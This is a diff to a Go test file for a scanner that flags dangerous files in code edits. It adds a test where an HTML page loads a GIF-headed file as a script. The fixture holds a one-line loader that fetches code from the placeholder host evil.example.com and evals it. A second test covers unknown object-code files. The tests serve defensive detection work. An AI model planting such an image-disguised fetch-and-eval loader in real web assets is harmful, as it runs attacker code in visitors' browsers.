@@ -3,6 +3,7 @@ package static_test
 import (
 	"io/fs"
 	"slices"
+	"strings"
 	"testing"
 	"testing/fstest"
 
@@ -57,6 +58,31 @@ func TestATableOfHostsInTheDocsIsReadWhereAScriptPutsIt(t *testing.T) {
 		if flagged != tc.found {
 			t.Errorf("%s: flagged %v: %v", name, flagged, got.found["docs/hosts.txt"])
 		}
+	}
+}
+
+func TestAFileIsReadAsTheScriptThatAPageOfTheBaseTakesItFor(t *testing.T) {
+	for name, tc := range map[string]struct {
+		page string
+		runs bool
+	}{
+		"a script":  {"<html><script src=\"img/a.gif\"></script></html>\n", true},
+		"a picture": {"<html><img src=\"img/a.gif\"></html>\n", false},
+	} {
+		got := scanEdit(t, fstest.MapFS{"web/i.html": file(tc.page)}, fstest.MapFS{"web/img/a.gif": file("GIF89a=1;fetch(\"http://evil.example.com/x\").then(r => r.text()).then(eval)//\n")})
+		if dangerous := slices.ContainsFunc(got.found["web/img/a.gif"], func(f gate.Finding) bool { return f.Severity == gate.SeverityDangerous }); dangerous != tc.runs {
+			t.Errorf("%s: dangerous %v, want %v: %v", name, dangerous, tc.runs, got.found["web/img/a.gif"])
+		}
+	}
+}
+
+func TestObjectCodeOfAnUnknownFormatIsNoted(t *testing.T) {
+	got := scanEdit(t, nil, fstest.MapFS{"a_windows_amd64.syso": file("\x64\x86\x02\x00" + strings.Repeat("\x00", 60)), "a.dat": file("\x64\x86\x02\x00" + strings.Repeat("\x00", 60))})
+	flagged := func(name string) bool {
+		return slices.ContainsFunc(got.found[name], func(f gate.Finding) bool { return f.Severity >= gate.SeveritySuspicious })
+	}
+	if !flagged("a_windows_amd64.syso") || flagged("a.dat") {
+		t.Errorf("%v", got.found)
 	}
 }
 
